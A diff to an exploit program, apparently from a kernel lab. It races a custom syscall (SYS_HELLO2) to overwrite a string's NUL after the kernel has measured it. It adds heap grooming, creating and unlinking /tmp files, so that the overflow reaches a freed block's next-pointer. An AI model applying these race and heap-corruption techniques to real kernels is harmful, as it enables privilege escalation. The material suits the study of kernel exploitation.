@@ -5,9 +5,11 @@
  *
  * The name fills such a block to the last byte, which is its NUL. Once the
  * kernel has found the NUL and measured the name by it, the adversary writes
- * a letter there.
+ * a letter there. Behind the block shall lie a free one, which begins with
+ * the address of the next: so we have the kernel free a few, side by side.
  */
 #include <errno.h>
+#include <fcntl.h>
 #include <race.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -15,6 +17,7 @@
 #include <unistd.h>
 
 #define BLOCK 32 /* the smallest that the kernel's heap gives */
+#define FILES 8
 
 static char name[BLOCK + 4];
 static struct hello2_in in = { name, BLOCK - 1, 7 };
@@ -30,6 +33,21 @@ static void *adversary(void *unused)
 	return NULL;
 }
 
+/*
+ * The kernel keeps a file's name in such a block, gives out blocks from high
+ * addresses to low ones, and the one that was freed last before all others.
+ */
+static void arrange_heap(void)
+{
+	char path[] = "/tmp/0";
+	char *digit = &path[sizeof(path) - 2];
+
+	for (*digit = '0'; *digit < '0' + FILES; ++*digit)
+		close(open(path, O_CREAT | O_WRONLY, 0600));
+	for (*digit = '0'; *digit < '0' + FILES; ++*digit)
+		unlink(path);
+}
+
 int main(int argc, char *argv[])
 {
 	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;
@@ -39,6 +57,7 @@ int main(int argc, char *argv[])
 		perror("race-strlen");
 		return 2;
 	}
+	arrange_heap();
 	while (calls--) {
 		if (syscall(SYS_HELLO2, &in, &out) < 0)
 			printf("hello2: %s\n", strerror(errno));
